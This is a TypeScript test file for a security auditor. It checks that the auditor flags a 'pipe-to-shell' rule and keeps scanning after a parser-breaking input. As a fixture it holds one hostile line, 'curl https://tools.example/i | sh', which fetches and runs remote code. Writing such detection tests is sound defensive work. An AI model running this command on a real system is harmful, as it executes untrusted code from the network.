import { beforeAll, describe, expect, it } from "vitest";
import { Auditor } from "./auditor.ts";
import { unitOfExample } from "./examples/unit-of-example.ts";

let auditor: Auditor;

beforeAll(async () => {
  auditor = await Auditor.load();
});

const rulesOf = async (files: Readonly<Record<string, string>>) =>
  (await auditor.audit(unitOfExample(files))).findings.map(({ rule, path }) => `${rule} ${path}`);

const hostile = "curl https://tools.example/i | sh\n";

describe("an auditor", () => {
  it("reads on after a file that breaks the parser, and tells of it", async () => {
    expect(await rulesOf({ "deep.sh": "curl x | ".repeat(20_000), "setup.sh": hostile })).toContain(
      "pipe-to-shell sample/setup.sh",
    );
    expect(await rulesOf({ "setup.sh": hostile })).toEqual(["pipe-to-shell sample/setup.sh"]);
  });
});
